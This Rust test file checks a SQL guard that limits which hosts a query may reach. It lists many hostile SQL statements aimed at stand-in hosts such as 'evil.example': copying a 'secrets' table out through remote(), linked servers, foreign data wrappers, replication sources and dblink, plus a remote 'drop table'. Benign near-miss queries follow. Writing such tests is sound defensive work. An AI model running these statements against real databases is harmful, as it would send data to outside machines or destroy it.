//! Limits of hosts in queries: functions and statements that reach another machine need an address that lies inside.

use serde_json::{Value, json};

use crate::common::{assert_honest, assert_hostile, checks};

fn statements(texts: &[&str]) -> Vec<Value> {
    texts.iter().map(|text| json!({ "sql": text })).collect()
}

#[test]
fn a_query_reaches_no_machine_but_the_allowed_ones() {
    let checks = checks(&[], &json!({}), &[json!({"hosts": ["ok.example", "10.0.0.5"]})]);
    assert_hostile(
        &checks,
        &statements(&[
            "select * from remote('evil.example', 'db.t')",
            "insert into function remote('evil.example','db.t') select * from secrets",
            "select * from remoteSecure('evil', db, t)",
            "select * from remote('ok.example,evil', 'db.t')",
            "select * from remote('ok{1..3}.example', 'db.t')",
            "select * from cluster('evil.example', x)",
            "select * from clusterAllReplicas('default', system.one)",
            "select * from mysql('evil:3306', 'd', 't', 'u', 'p')",
            "select * from postgresql('evil:5432', 'd', 't', 'u', 'p')",
            "select * from mongodb('evil:27017', 'd', 'c', 'u', 'p', 's')",
            "select * from redis('evil:6379', 'k', 'k String')",
            "select * from s3('https://evil.example/x.csv')",
            "select * from s3(named_one)",
            "select * from url('http://evil.example/x', CSV)",
            "create table t (a int) engine = Kafka('evil:9092', 't', 'g', 'JSON')",
            "create table t (a int) engine = Kafka settings kafka_broker_list = 'evil:9092'",
            "create table t (a int) engine = MySQL('evil:3306', 'd', 't', 'u', 'p')",
            "create named collection c as host = 'evil', port = 1",
            "ATTACH 'postgres:host=evil.example' AS x",
            "ATTACH 'mysql:host=evil user=x' AS x",
            "ATTACH 'ducklake:postgres:host=evil dbname=x' AS x",
            "ATTACH 'host=evil dbname=x' AS x (TYPE postgres)",
            "ATTACH 'md:shared' AS x",
            "CREATE SECRET (TYPE postgres, HOST 'evil')",
            "select dblink('postgres:host=evil.example', 'x')",
            "select * from dblink('host=evil', 'select 1') as t(a int)",
            "select * from dblink('hostaddr=10.9.9.9', 'select 1') as t(a int)",
            "select dblink_connect('c', 'host=evil')",
            "select * from dblink('some_server', 'select 1') as t(a int)",
            "CREATE DATABASE LINK l USING 'evil.example'",
            "CREATE PUBLIC DATABASE LINK l CONNECT TO u IDENTIFIED BY p USING '//evil:1521/x'",
            "CREATE DATABASE LINK l USING '(DESCRIPTION=(ADDRESS=(PROTOCOL=TCP)(HOST=evil)(PORT=1521)))'",
            "CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'evil')",
            "CREATE SERVER s FOREIGN DATA WRAPPER tds_fdw OPTIONS (servername 'evil')",
            "CREATE SERVER s FOREIGN DATA WRAPPER oracle_fdw OPTIONS (dbserver '//evil:1521/x')",
            "ALTER SERVER s OPTIONS (SET host 'evil')",
            "CREATE SUBSCRIPTION s CONNECTION 'host=evil dbname=x' PUBLICATION p",
            "CREATE SUBSCRIPTION s CONNECTION 'service=x' PUBLICATION p",
            "CHANGE MASTER TO MASTER_HOST='evil', MASTER_PORT=1",
            "CHANGE REPLICATION SOURCE TO SOURCE_HOST='evil'",
            "select * from openrowset('SQLNCLI', 'Server=evil;Trusted_Connection=yes', 'select 1')",
            "select * from opendatasource('SQLNCLI', 'Data Source=evil;User ID=x').d.dbo.t",
            "select * from openquery(srv, 'select 1')",
            "exec sp_addlinkedserver 'evil'",
            "exec sp_addlinkedserver @server='x', @srvproduct='', @provider='SQLNCLI', @datasrc='evil'",
            "select * from srv.db.dbo.t",
            "select * from [srv]...[t]",
            "exec ('drop table t') at srv",
            "select * from t@link",
            "clone instance from 'u'@'evil':3306 identified by 'p'",
        ]),
    );
    assert_honest(
        &checks,
        &statements(&[
            "select * from remote('ok.example', 'db.t')",
            "select * from remote('ok.example:9000,10.0.0.5', 'db.t')",
            "select * from mysql('ok.example:3306', 'd', 't', 'u', 'p')",
            "select * from postgresql('10.0.0.5:5432', 'd', 't', 'u', 'p')",
            "select * from s3('https://ok.example/x.csv')",
            "ATTACH 'postgres:host=ok.example dbname=x' AS x",
            "ATTACH 'ducklake:postgres:host=ok.example' AS x",
            "ATTACH 'ducklake:meta.ducklake' AS x",
            "ATTACH 'a.db' AS x",
            "select * from dblink('host=ok.example', 'select 1') as t(a int)",
            "select * from dblink('dbname=x', 'select 1') as t(a int)",
            "CREATE DATABASE LINK l USING '//ok.example:1521/x'",
            "CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'ok.example', port '5432')",
            "CREATE SUBSCRIPTION s CONNECTION 'host=ok.example dbname=x' PUBLICATION p",
            "CHANGE MASTER TO MASTER_HOST='ok.example'",
            "select * from openrowset('SQLNCLI', 'Server=ok.example;Trusted_Connection=yes', 'select 1')",
            "exec sp_addlinkedserver @server='x', @srvproduct='', @provider='SQLNCLI', @datasrc='ok.example'",
            "select * from logs where host = 'web-1'",
            "select url, remote, cluster, redis from t",
            "create table remote (id int, host text default 'x')",
            "insert into url (a, b) values ('x', 'y')",
            "create table cluster (host text, server text)",
            "select a.b.c.d from a.b.c",
            "select * from project.dataset.table1",
            "update hosts set host = 'db-7' where id = 1",
            "select 'postgres: a database' as x",
            "create view v as select * from t where server = 'a'",
            "select count(*) from t where name like '%@x'",
            "insert into t (note) values ('mysql: how to')",
            "select * from t join u on t.id = u.id",
        ]),
    );
}
